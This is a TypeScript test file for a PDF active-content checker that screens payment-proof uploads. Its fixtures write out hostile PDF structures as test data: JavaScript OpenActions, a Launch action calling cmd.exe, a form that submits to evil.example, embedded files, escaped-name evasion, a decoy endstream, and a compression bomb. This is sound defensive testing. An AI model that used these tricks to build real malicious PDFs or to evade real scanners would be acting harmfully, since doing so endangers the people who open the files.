import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { checkPdf } from './pdf-active-content';

// Decision 024: a payment proof PDF may carry no script, no file and no self-running action.
const pdf = (...objects: string[]) => Buffer.from(`%PDF-1.7\n${objects.join('\n')}\n%%EOF\n`);
const CATALOG = '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj';
const PAGES = '2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj';

/** An object stream holding `content`, compressed when its dictionary names Flate. */
export function objectStreamPdf(content: string, dictionaryExtra = '/Filter /FlateDecode'): Buffer {
  const data = dictionaryExtra.includes('/Fl')
    ? deflateSync(Buffer.from(content))
    : Buffer.from(content);
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n${CATALOG}\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${dictionaryExtra} /Length ${data.length} >>\nstream\n`,
    ),
    data,
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ]);
}

/** A page content stream: compressed drawing operators, never read as dictionaries. */
function contentStreamPdf(): Buffer {
  const data = deflateSync(Buffer.from('BT /F1 12 Tf 72 712 Td (Paid: 120 EUR) Tj ET'));
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n${CATALOG}\n${PAGES}\n4 0 obj\n<< /Length ${data.length} /Filter /FlateDecode >>\nstream\n`,
    ),
    data,
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ]);
}

describe('checkPdf', () => {
  it('passes a plain document, with compressed content and clean object streams', () => {
    expect(checkPdf(pdf(CATALOG, PAGES))).toBe('plain');
    expect(checkPdf(contentStreamPdf())).toBe('plain');
    expect(checkPdf(objectStreamPdf('3 0 << /Type /Page /Parent 2 0 R >>'))).toBe('plain');
    // A link to a web page is not an action that runs by itself.
    expect(
      checkPdf(
        pdf(
          CATALOG,
          '3 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://bank.example) >> >>\nendobj',
        ),
      ),
    ).toBe('plain');
  });

  it.each([
    [
      'an OpenAction running JavaScript',
      '<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
    ],
    ['document-level scripts', '<< /Type /Catalog /Names << /JavaScript 7 0 R >> >>'],
    ['embedded files', '<< /Type /Catalog /Names << /EmbeddedFiles 8 0 R >> >>'],
    ['an embedded file stream', '<< /Type /EmbeddedFile /Length 0 >>'],
    ['a file attachment annotation', '<< /Type /Annot /Subtype /FileAttachment /FS 9 0 R >>'],
    ['a Launch action', '<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>'],
    ['additional actions on a page', '<< /Type /Page /AA << /O 10 0 R >> >>'],
    ['a form that submits itself', '<< /S /SubmitForm /F (https://evil.example) >>'],
    ['XFA forms', '<< /AcroForm << /XFA 11 0 R >> >>'],
    ['a name hidden by #xx escapes', '<< /OpenAction << /S /J#61vaScript /J#53 (x) >> >>'],
  ])('finds %s', (_, dictionary) => {
    expect(checkPdf(pdf(CATALOG, `3 0 obj\n${dictionary}\nendobj`))).toBe('active');
  });

  it('finds a script inside a compressed object stream, also behind escaped keys', () => {
    expect(checkPdf(objectStreamPdf('3 0 << /S /JavaScript /JS (app.alert(1)) >>'))).toBe('active');
    expect(
      checkPdf(objectStreamPdf('3 0 << /S /JavaScript /JS (x) >>', '/F#69lter /Fl#61teDecode')),
    ).toBe('active');
    expect(checkPdf(objectStreamPdf('3 0 << /S /Launch >>', '/Filter [/FlateDecode]'))).toBe(
      'active',
    );
    // A fake "endstream" early in the data does not end the stream before the script.
    const hidden = deflateSync(Buffer.from('3 0 << /S /JavaScript /JS (app.alert(1)) >>'));
    const decoy = Buffer.concat([Buffer.from('endstream\n'), hidden]);
    const stored = Buffer.concat([
      Buffer.from(
        `%PDF-1.7\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${decoy.length} >>\nstream\n`,
      ),
      decoy,
      Buffer.from('\nendstream\nendobj\n%%EOF\n'),
    ]);
    expect(checkPdf(stored)).not.toBe('plain');
    // Unfiltered object streams are read as they are.
    expect(checkPdf(objectStreamPdf('3 0 << /EmbeddedFiles 4 0 R >>', ''))).toBe('active');
  });

  it('cannot check object streams that are encrypted, under another filter, or broken', () => {
    expect(checkPdf(objectStreamPdf('3 0 << /S /JavaScript >>', '/Filter /ASCIIHexDecode'))).toBe(
      'uncheckable',
    );
    const broken = objectStreamPdf('3 0 << /Type /Page >>');
    broken.write('garbage!', broken.indexOf('stream\n') + 'stream\n'.length + 2, 'latin1');
    expect(checkPdf(broken)).toBe('uncheckable');
    const encrypted = Buffer.concat([
      objectStreamPdf('3 0 << /Type /Page >>'),
      Buffer.from('trailer\n<< /Root 1 0 R /Encrypt 12 0 R >>\n'),
    ]);
    expect(checkPdf(encrypted)).toBe('uncheckable');
    // An encrypted file without object streams keeps its dictionaries readable.
    expect(checkPdf(pdf(CATALOG, 'trailer\n<< /Root 1 0 R /Encrypt 12 0 R >>'))).toBe('plain');
  });

  it('stops inflating a compression bomb', () => {
    const bomb = Buffer.alloc(40 * 1024 * 1024, 0x20).toString('latin1');
    expect(checkPdf(objectStreamPdf(bomb))).toBe('uncheckable');
  });
});
